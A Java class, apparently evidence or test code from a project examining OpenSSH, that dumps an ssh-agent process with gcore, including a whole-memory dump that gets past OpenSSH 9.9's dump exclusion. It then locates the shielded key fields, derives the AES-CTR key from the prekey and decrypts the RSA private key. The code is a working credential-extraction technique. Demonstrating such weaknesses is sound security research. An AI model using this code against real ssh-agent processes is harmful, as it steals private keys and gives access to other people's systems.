package org.sshkr.evidence;

import java.io.IOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.MessageDigest;
import java.security.interfaces.RSAPrivateCrtKey;
import java.security.spec.RSAPrivateCrtKeySpec;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;
import org.sshkr.ssh.wire.WireReader;
import org.sshkr.tests.Command;

/**
 * Takes the RSA key out of a core file of OpenSSH's ssh-agent. The agent keeps it encrypted between
 * uses, under a key that is the hash of 16 KiB of random bytes beside it ("shielding": OpenSSH's
 * sshkey.c, sshkey_shield_private). A core holds both. They are found by the four words at the end
 * of struct sshkey (sshkey.h): address and length of the ciphertext, address of the random bytes,
 * 16384.
 *
 * <p>Since OpenSSH 9.9 the random bytes have pages of their own that cores leave out
 * (MADV_DONTDUMP). They are still in memory, and in a core of all mappings.
 */
final class ShieldedKey {
  private static final int PREKEY = 16 * 1024;
  private static final int MOST_CIPHERTEXT = 1 << 16;
  private static final int LOAD = 1;

  /** A part of the process's memory: elf(5), Elf64_Phdr. */
  private record Segment(long address, ByteBuffer bytes) {}

  private final List<Segment> segments = new ArrayList<>();

  private ShieldedKey(ByteBuffer core) {
    int headers = (int) core.getLong(0x20);
    int size = core.getShort(0x36);
    int count = core.getShort(0x38);
    for (int i = 0; i < count; i++) {
      int header = headers + i * size;
      if (core.getInt(header) == LOAD) {
        int offset = (int) core.getLong(header + 8);
        int length = (int) Math.min(core.getLong(header + 32), core.capacity() - offset);
        ByteBuffer bytes = core.slice(offset, Math.max(length, 0)).order(ByteOrder.LITTLE_ENDIAN);
        segments.add(new Segment(core.getLong(header + 16), bytes));
      }
    }
  }

  /** Has root write a core of the process, in the way of the kernel. */
  static Path usualCore(Path directory, String pid) {
    Command.run("gcore", "-o", directory.resolve("gcore").toString(), pid).succeeded();
    return directory.resolve("gcore." + pid);
  }

  /** Has root write a core of everything that the process can read, as a fault of its own could. */
  static Path wholeCore(Path directory, String pid) {
    Command.run("gcore", "-a", "-o", directory.resolve("whole").toString(), pid).succeeded();
    return directory.resolve("whole." + pid);
  }

  /** Finds the first key in the core file of a 64-bit little-endian machine. */
  static Optional<RSAPrivateCrtKey> find(Path core) throws IOException, GeneralSecurityException {
    try (FileChannel file = FileChannel.open(core)) {
      ByteBuffer bytes = file.map(FileChannel.MapMode.READ_ONLY, 0, file.size());
      return new ShieldedKey(bytes.order(ByteOrder.LITTLE_ENDIAN)).find();
    }
  }

  private Optional<RSAPrivateCrtKey> find() throws GeneralSecurityException {
    for (Segment segment : segments) {
      ByteBuffer words = segment.bytes;
      for (int at = 3 * Long.BYTES; at + Long.BYTES <= words.capacity(); at += Long.BYTES) {
        long length = words.getLong(at - 2 * Long.BYTES);
        if (words.getLong(at) == PREKEY && length > 0 && length < MOST_CIPHERTEXT) {
          byte[] ciphertext = read(words.getLong(at - 3 * Long.BYTES), (int) length);
          byte[] prekey = read(words.getLong(at - Long.BYTES), PREKEY);
          if (ciphertext.length > 0 && prekey.length > 0) {
            Optional<RSAPrivateCrtKey> key = parse(unshield(ciphertext, prekey));
            if (key.isPresent()) {
              return key;
            }
          }
        }
      }
    }
    return Optional.empty();
  }

  /** The bytes at an address; empty if the core does not hold all of them. */
  private byte[] read(long address, int length) {
    for (Segment segment : segments) {
      long at = address - segment.address;
      if (at >= 0 && at + length <= segment.bytes.capacity()) {
        byte[] bytes = new byte[length];
        segment.bytes.get((int) at, bytes);
        return bytes;
      }
    }
    return new byte[0];
  }

  /** AES-256 in counter mode; key and counter are the first 48 bytes of the prekey's SHA-512. */
  private static byte[] unshield(byte[] ciphertext, byte[] prekey) throws GeneralSecurityException {
    byte[] hash = MessageDigest.getInstance("SHA-512").digest(prekey);
    Cipher aes = Cipher.getInstance("AES/CTR/NoPadding");
    aes.init(
        Cipher.DECRYPT_MODE,
        new SecretKeySpec(hash, 0, 32, "AES"),
        new IvParameterSpec(Arrays.copyOfRange(hash, 32, 48)));
    return aes.doFinal(ciphertext);
  }

  /** OpenSSH's private key: string "ssh-rsa", mpints n, e, d, qInv, p, q. */
  private static Optional<RSAPrivateCrtKey> parse(byte[] bytes) throws GeneralSecurityException {
    byte[] type = "\0\0\0\7ssh-rsa".getBytes(StandardCharsets.US_ASCII);
    if (!Arrays.equals(bytes, 0, Math.min(type.length, bytes.length), type, 0, type.length)) {
      return Optional.empty();
    }
    WireReader reader = new WireReader(bytes);
    reader.readString();
    BigInteger n = reader.readPositiveMpint();
    BigInteger e = reader.readPositiveMpint();
    BigInteger d = reader.readPositiveMpint();
    BigInteger inverse = reader.readPositiveMpint();
    BigInteger p = reader.readPositiveMpint();
    BigInteger q = reader.readPositiveMpint();
    BigInteger dp = d.mod(p.subtract(BigInteger.ONE));
    BigInteger dq = d.mod(q.subtract(BigInteger.ONE));
    RSAPrivateCrtKeySpec numbers = new RSAPrivateCrtKeySpec(n, e, d, p, q, dp, dq, inverse);
    return Optional.of((RSAPrivateCrtKey) KeyFactory.getInstance("RSA").generatePrivate(numbers));
  }
}
